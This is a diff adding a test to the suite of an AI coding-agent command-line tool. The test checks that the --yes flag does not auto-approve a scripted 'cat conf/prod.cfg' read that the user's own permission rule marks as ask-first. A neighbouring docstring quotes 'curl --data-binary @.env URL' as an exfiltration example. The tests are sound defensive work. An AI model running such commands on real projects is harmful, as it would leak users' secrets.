@@ -1178,6 +1178,22 @@ def test_under_yes_a_hostile_payload_gets_nothing_out(khaelor, fake, project, en
     unix_server.close()
 
 
+def test_under_yes_a_read_the_users_rule_asks_about_is_still_asked(khaelor, fake, project, env):
+    """A path the user's own rule asks about reading is the user's to open, as a secret file is:
+    --yes does not answer for it, and what it runs finds it closed."""
+    (project / "conf").mkdir()
+    (project / "conf" / "prod.cfg").write_text("password: MARKER-6160\n")
+    home = Path(env["KHAELOR_HOME"])
+    home.mkdir(parents=True, exist_ok=True)
+    (home / "config.json").write_text(json.dumps({"permissions": [
+        {"capability": "file.read", "pattern": "conf/*", "action": "ask"}]}))
+    fake.enqueue(reply(tool_use("bash", {"command": "cat conf/prod.cfg"})), reply(text("done")))
+    result = khaelor.run("-p", "show the config", "--yes")
+    assert result.returncode == 0, result.stderr
+    assert "--yes never opens them" in result.stderr, result.stderr
+    assert "MARKER-6160" not in json.dumps([request["body"] for request in fake.requests])
+
+
 def test_under_yes_no_secret_of_the_project_leaves_by_a_network_command(khaelor, fake, project,
                                                                         listener):
     """`curl --data-binary @.env URL` asked for the network, --yes gave it to curl (a program known
